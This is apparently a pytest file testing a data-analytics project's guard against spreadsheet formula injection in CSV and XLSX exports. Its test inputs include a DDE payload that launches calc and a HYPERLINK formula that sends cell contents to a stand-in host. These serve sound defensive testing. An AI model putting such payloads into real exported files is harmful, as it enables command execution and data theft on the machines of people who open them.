"""The formula guard shared by every CSV/XLSX the project writes (issue #12, break 3)."""

from __future__ import annotations

import polars as pl
import pytest
from openpyxl import Workbook, load_workbook

from congvu_analytics import cli
from congvu_analytics.safe_csv import (
    defuse_workbook,
    neutralise,
    neutralise_frame,
    restore_frame,
    xlsx_text_cells,
)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+84 912", "'+84 912"),
        ("-5 ngày", "'-5 ngày"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("'=quoted", "''=quoted"),
        ("Bình thường", "Bình thường"),
        ("a=b", "a=b"),
        ("", ""),
        (-3, -3),
        (None, None),
    ],
)
def test_a_cell_a_spreadsheet_would_evaluate_gets_an_apostrophe(value, written):
    assert neutralise(value) == written


def test_a_frame_is_neutralised_column_by_column_and_restored_exactly():
    frame = pl.DataFrame(
        {"t": ["=cmd|' /C calc'!A0", "ok", None, "'+x", "-"], "n": [-1, 2, 3, 4, 5]}
    )
    safe = neutralise_frame(frame)
    assert safe["t"].to_list() == ["'=cmd|' /C calc'!A0", "ok", None, "''+x", "'-"]
    assert safe["n"].to_list() == [-1, 2, 3, 4, 5]
    assert restore_frame(safe).equals(frame)


def test_the_analyze_csv_outputs_are_neutralised(tmp_path):
    table = pl.DataFrame({"actor": ['=HYPERLINK("http://x/?"&A1)'], "evidence": [["@a", "b"]]})
    cli._write_outputs(tmp_path, {"findings": table}, ["csv"], None, {})
    back = pl.read_csv(tmp_path / "findings.csv")
    assert back["actor"].to_list() == ['\'=HYPERLINK("http://x/?"&A1)']
    assert back["evidence"].to_list() == ["'@a;b"]


def test_xlsx_cells_are_typed_strings_never_formulas(tmp_path):
    book = Workbook(write_only=True)
    sheet = book.create_sheet("s")
    sheet.append(xlsx_text_cells(sheet, ["=1+1", 7, "+x"]))
    book.save(tmp_path / "w.xlsx")
    row = next(load_workbook(tmp_path / "w.xlsx").worksheets[0].iter_rows())
    assert [(c.value, c.data_type) for c in row] == [("=1+1", "s"), (7, "n"), ("+x", "s")]
    filled = Workbook()
    filled.active.cell(row=1, column=1, value="=A2")
    assert defuse_workbook(filled) == 1
    filled.save(tmp_path / "f.xlsx")
    cell = load_workbook(tmp_path / "f.xlsx").active["A1"]
    assert (cell.value, cell.data_type) == ("=A2", "s")
